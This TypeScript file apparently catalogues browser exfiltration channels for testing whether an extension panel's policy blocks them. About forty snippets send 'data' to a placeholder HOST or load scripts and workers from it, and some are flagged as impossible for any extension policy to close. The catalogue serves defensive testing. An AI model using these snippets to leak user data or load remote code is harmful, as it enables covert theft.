/** A way by which something could leave the browser. */
export interface Exit {
  name: string
  /** What is run, `HOST` being the name it tries to reach and `UDP` the port of a socket. */
  code: string
  /** Whether a worker has it as well. */
  inWorker?: boolean
  /** Whether it takes its page elsewhere: then the page is opened anew after it. */
  leaves?: boolean
  /** Whether it would arrive as a datagram. */
  udp?: boolean
  /** Whether no policy that an extension can have closes it for the panel. */
  beyondPolicy?: boolean
}

const add = (tag: string, set: string) =>
  `const e = document.createElement('${tag}'); ${set}; document.body.append(e)`

/** All that are known, those that take a page elsewhere last. */
export const EXITS: readonly Exit[] = [
  { name: 'fetch', code: `await fetch('https://HOST/x?data')`, inWorker: true },
  {
    name: 'fetch without CORS',
    code: `await fetch('https://HOST/x', { method: 'POST', mode: 'no-cors', body: 'data' })`,
    inWorker: true,
  },
  {
    name: 'fetch that outlives',
    code: `await fetch('https://HOST/x', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'data' })`,
    inWorker: true,
  },
  {
    name: 'XMLHttpRequest',
    code: `await new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('GET', 'https://HOST/x'); x.send() })`,
  },
  { name: 'WebSocket', code: `new WebSocket('wss://HOST/x')`, inWorker: true },
  { name: 'EventSource', code: `new EventSource('https://HOST/x')`, inWorker: true },
  { name: 'sendBeacon', code: `navigator.sendBeacon('https://HOST/x', 'data')` },
  {
    name: 'WebRTC',
    beyondPolicy: true,
    code: `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())`,
    udp: true,
  },
  {
    name: 'WebTransport',
    code: `await new WebTransport('https://127.0.0.1:UDP/x').ready`,
    inWorker: true,
    udp: true,
  },
  { name: 'image', code: `new Image().src = 'https://HOST/x'` },
  { name: 'image in the page', code: add('img', `e.srcset = 'https://HOST/x 1x'`) },
  {
    name: 'picture in CSS',
    code: add('div', `e.textContent = 'x'; e.style.backgroundImage = 'url(https://HOST/x)'`),
  },
  { name: 'stylesheet', code: add('link', `e.rel = 'stylesheet'; e.href = 'https://HOST/x'`) },
  { name: '@import', code: add('style', `e.textContent = '@import "https://HOST/x"'`) },
  { name: 'font', code: `await new FontFace('x', 'url(https://HOST/x)').load()` },
  { name: 'script', code: add('script', `e.src = 'https://HOST/x'`) },
  { name: 'import()', code: `await import('https://HOST/x')`, inWorker: true },
  { name: 'importScripts', code: `importScripts('https://HOST/x')`, inWorker: true },
  { name: 'worker', code: `new Worker('https://HOST/x')` },
  {
    name: 'worker from a blob',
    code: `new Worker(URL.createObjectURL(new Blob(["fetch('https://HOST/x')"])))`,
  },
  { name: 'shared worker', code: `new SharedWorker('https://HOST/x')` },
  { name: 'frame', code: add('iframe', `e.src = 'https://HOST/x'`) },
  { name: 'frame of a text', code: add('iframe', `e.srcdoc = '<img src=https://HOST/x>'`) },
  { name: 'object', code: add('object', `e.data = 'https://HOST/x'`) },
  { name: 'embed', code: add('embed', `e.src = 'https://HOST/x'`) },
  { name: 'sound', code: add('audio', `e.src = 'https://HOST/x'; e.load()`) },
  { name: 'prefetch', code: add('link', `e.rel = 'prefetch'; e.href = 'https://HOST/x'`) },
  { name: 'preload', code: add('link', `e.rel = 'preload'; e.as = 'image'; e.href = 'https://HOST/x'`) },
  { name: 'modulepreload', code: add('link', `e.rel = 'modulepreload'; e.href = 'https://HOST/x'`) },
  {
    name: 'preconnect',
    beyondPolicy: true,
    code: add('link', `e.rel = 'preconnect'; e.href = 'https://HOST/'`),
  },
  { name: 'icon', code: add('link', `e.rel = 'icon'; e.href = 'https://HOST/x'`) },
  { name: 'manifest', code: add('link', `e.rel = 'manifest'; e.href = 'https://HOST/x'`) },
  {
    name: 'form into a frame',
    code:
      add('form', `e.action = 'https://HOST/x'; e.method = 'post'; e.target = 'f'`) +
      `; const f = document.createElement('iframe'); f.name = 'f'; document.body.append(f); e.submit()`,
  },
  { name: 'window.open', beyondPolicy: true, code: `open('https://HOST/x?data')`, leaves: true },
  {
    name: 'link that is pressed',
    beyondPolicy: true,
    code: add('a', `e.href = 'https://HOST/x?data'; e.target = '_blank'; e.click()`),
    leaves: true,
  },
  { name: 'form', code: add('form', `e.action = 'https://HOST/x'`) + '; e.submit()', leaves: true },
  {
    name: 'meta refresh',
    beyondPolicy: true,
    code: add('meta', `e.httpEquiv = 'refresh'; e.content = '0;url=https://HOST/x'`),
    leaves: true,
  },
  { name: 'location', beyondPolicy: true, code: `location.href = 'https://HOST/x?data'`, leaves: true },
]
